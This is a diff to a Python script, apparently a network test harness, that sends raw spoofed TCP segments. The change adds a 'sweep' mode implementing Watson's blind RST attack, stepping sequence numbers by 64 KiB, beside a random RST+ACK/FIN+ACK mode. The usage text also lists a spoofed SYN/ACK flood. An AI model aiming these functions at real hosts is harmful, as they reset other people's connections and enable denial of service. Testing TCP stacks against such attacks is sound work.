@@ -38,10 +38,11 @@
                                              on DIR/reset close with SO_LINGER {1,0} (RST)
   peer.py whoami-from ADDR PORT SPORT        bind SPORT (SO_REUSEADDR), print what a
                                              line-server saw, then "bye": it closes first
-  peer.py blind IFACE DST_MAC SRC SPORT DST DPORT N
+  peer.py blind IFACE DST_MAC SRC SPORT DST DPORT N [mix|sweep]
                                              raw (AF_PACKET) blind segments, spoofed from
-                                             SRC:SPORT: RST, RST+ACK and FIN+ACK in turn,
-                                             random seq, ack and window; prints the counts
+                                             SRC:SPORT: RST+ACK and FIN+ACK in turn with
+                                             random seq, ack and window (mix), or bare RSTs
+                                             stepping seq by 64 KiB (sweep); prints counts
   peer.py syn-ack-flood IFACE DST_MAC SRC_PREFIX DST DPORT N [CHUNK]
                                              N blind pairs from random SRC_PREFIX.x:port:
                                              a SYN, then (after its chunk) an ACK with a
@@ -450,16 +451,26 @@ class RawTcp:
         self.s.send(self.eth + ip + tcp)
 
 
-def blind(iface, dst_mac, src, sport, dst, dport, n):
+def blind(iface, dst_mac, src, sport, dst, dport, n, mode="mix"):
+    """mix: RST+ACK and FIN+ACK in turn, random seq, ack and window.
+    sweep: bare RSTs whose seq steps by 64 KiB from a random start (Watson's
+    attack: n = 65536 covers the sequence space, one lands in any window)."""
     raw = RawTcp(iface, dst_mac)
-    kinds = ["R", "RA", "FA"]
-    sent = {k: 0 for k in kinds}
-    for i in range(int(n)):
-        k = kinds[i % 3]
-        raw.send(src, sport, dst, dport, k, random.getrandbits(32),
-                 random.getrandbits(32), random.getrandbits(16))
-        sent[k] += 1
-    print(f"sent {n}: rst {sent['R'] + sent['RA']} fin {sent['FA']}")
+    n, rst, fin = int(n), 0, 0
+    start = random.getrandbits(32)
+    for i in range(n):
+        if mode == "sweep":
+            raw.send(src, sport, dst, dport, "R", (start + (i << 16)) & 0xffffffff, 0, 0)
+            rst += 1
+        elif i % 2 == 0:
+            raw.send(src, sport, dst, dport, "RA", random.getrandbits(32),
+                     random.getrandbits(32), random.getrandbits(16))
+            rst += 1
+        else:
+            raw.send(src, sport, dst, dport, "FA", random.getrandbits(32),
+                     random.getrandbits(32), random.getrandbits(16))
+            fin += 1
+    print(f"sent {n}: rst {rst} fin {fin}")
 
 
 def syn_ack_flood(iface, dst_mac, prefix, dst, dport, n, chunk="20"):
